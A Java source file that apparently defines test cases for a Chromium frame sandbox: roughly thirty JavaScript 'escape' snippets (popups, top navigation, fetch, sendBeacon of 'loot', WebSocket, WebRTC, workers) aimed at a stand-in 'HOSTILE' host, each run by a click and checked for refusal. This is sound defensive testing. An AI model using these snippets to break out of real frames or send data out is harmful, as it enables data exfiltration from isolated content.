package io.kpiwidget.chromium;

import java.util.List;
import java.util.Set;

/**
 * One way out of a frame, tried in the frame by a real click.
 *
 * @param script what the click runs; HOSTILE is the hostile server, SHELL the frame's own origin
 * @param kind as what it is refused; empty where Chromium asks nobody
 */
record Escape(String name, String script, String kind) {

  /** In the order of the table. */
  static List<Escape> all() {
    return List.of(
        new Escape("popup", "return open('http://HOSTILE/popup')", ""),
        new Escape("popup by a link", add("a", "href: 'http://HOSTILE/', target: '_blank'"), ""),
        new Escape("top navigation", "top.location = 'http://HOSTILE/top'", "navigation"),
        new Escape(
            "top form",
            add("form", "action: 'http://HOSTILE/', method: 'post', target: '_top'")
                .replace("click()", "submit()"),
            "navigation"),
        new Escape("own navigation", "location = 'http://HOSTILE/self'", "frame"),
        new Escape("redirect out", "location = 'SHELL/out'", "frame"),
        new Escape("foreign frame", add("iframe", "src: 'http://HOSTILE/'"), "frame"),
        new Escape(
            "download",
            add("a", "href: URL.createObjectURL(new Blob(['loot'])), download: 'loot.bin'"),
            "download"),
        new Escape("upload", add("input", "type: 'file'"), "file-dialog"),
        new Escape("print", "print()", ""),
        new Escape("dialog", "alert(1); confirm(2); prompt(3)", "dialog"),
        new Escape(
            "permission prompts",
            "const asked = name => navigator.permissions.query({name}).then(p => p.state, String);"
                + " return await new Promise(done => navigator.geolocation.getCurrentPosition("
                + "done, e => done('refused ' + e.code)))"
                + " + await navigator.mediaDevices.getUserMedia({video: true}).catch(e => e.name)"
                + " + await Notification.requestPermission() + await asked('clipboard-read')",
            ""),
        new Escape("external protocol", "location = 'mailto:a@example.test'", "protocol"),
        new Escape("developer tools", "location = 'devtools://devtools/bundled/i.html'", ""),
        new Escape("view-source", "return open('view-source:SHELL/')", ""),
        new Escape("login prompt", add("iframe", "src: 'SHELL/secret'"), "login"),
        new Escape(
            "WebRTC",
            "const turn = way => ({urls: 'turn:HOSTILE?transport=' + way, username: 'a',"
                + " credential: 'b'}); const peer = new RTCPeerConnection({iceServers:"
                + " [{urls: 'stun:HOSTILE'}, turn('udp'), turn('tcp')]});"
                + " peer.createDataChannel('out'); await peer.setLocalDescription();"
                + " await new Promise(done => peer.onicegatheringstatechange = () =>"
                + " peer.iceGatheringState === 'complete' && done())",
            ""),
        new Escape("service worker", "await navigator.serviceWorker.register('/worker.js')", ""),
        new Escape("shared worker", "new SharedWorker('/worker.js')", "resource"),
        new Escape("worker", "new Worker('/worker.js')", "resource"),
        new Escape("image", "new Image().src = 'http://HOSTILE/'", "resource"),
        new Escape("script", add("script", "src: 'http://HOSTILE/'"), "resource"),
        new Escape("fetch", "await fetch('http://HOSTILE/', {mode: 'no-cors'})", "resource"),
        new Escape("fetch, sent on", "await fetch('SHELL/out', {mode: 'no-cors'})", "resource"),
        new Escape("beacon", "navigator.sendBeacon('http://HOSTILE/', 'loot')", "resource"),
        new Escape("event stream", "new EventSource('http://HOSTILE/')", "resource"),
        new Escape("prefetch", add("link", "rel: 'prefetch', href: 'http://HOSTILE/'"), "resource"),
        new Escape("preconnect", add("link", "rel: 'preconnect', href: 'http://HOSTILE/'"), ""),
        new Escape("web socket", "new WebSocket('ws://HOSTILE/')", ""));
  }

  private static String add(String tag, String properties) {
    return "const it = Object.assign(document.createElement('"
        + tag
        + "'), {"
        + properties
        + "}); document.body.append(it); it.click()";
  }

  /** The kinds that must be among those refused. */
  Set<String> kinds() {
    return kind.isEmpty() ? Set.of() : Set.of(kind);
  }

  /** Whether it would reach a server that frames may be of. */
  boolean reaches() {
    return kind.equals("frame") || kind.equals("resource") || name.equals("web socket");
  }

  /** The frame's page: a button all over, and what it said when it was through or stuck. */
  String page(String shell, String hostile) {
    String attack = script.replace("HOSTILE", hostile).replace("SHELL", shell);
    return """
        <!doctype html><body style="margin:0"><button style="position:fixed;inset:0;width:100%%">
        </button><script>
        const attack = async () => { %s };
        const stuck = new Promise(done => setTimeout(done, 1500, 'stuck'));
        document.querySelector('button').onclick = () => Promise.race([attack(), stuck])
          .catch(String).then(said => parent.postMessage(String(said), '*'));
        </script>
        """
        .formatted(attack);
  }
}
